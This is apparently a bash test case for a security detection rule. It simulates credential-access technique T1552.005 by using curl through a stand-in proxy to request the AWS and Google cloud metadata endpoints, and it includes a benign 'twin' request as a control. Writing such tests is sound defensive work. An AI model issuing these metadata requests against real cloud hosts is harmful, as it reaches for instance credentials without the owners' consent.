#!/bin/bash
# The cloud's metadata service is asked through a proxy, and by its name.
#: title: Cloud metadata asked by a proxy or name
#: technique: T1552.005
#: needs: exec
#: rules: cloud_metadata_named
#: twin: another host is asked through the proxy
. "$DRIVERS/lib.sh"

ask_for() { curl -s --max-time 5 -x http://203.0.113.7:3128 "$1" || true; } # nobody answers here

attack() {
	in_own_network ask_for http://169.254.169.254/latest/meta-data/
	in_own_network ask_for http://metadata.google.internal/computeMetadata/v1/
	did 203.0.113.7:3128
}

twin() {
	in_own_network ask_for http://www.example.com/latest/meta-data/
	did 203.0.113.7:3128
}

"$1"
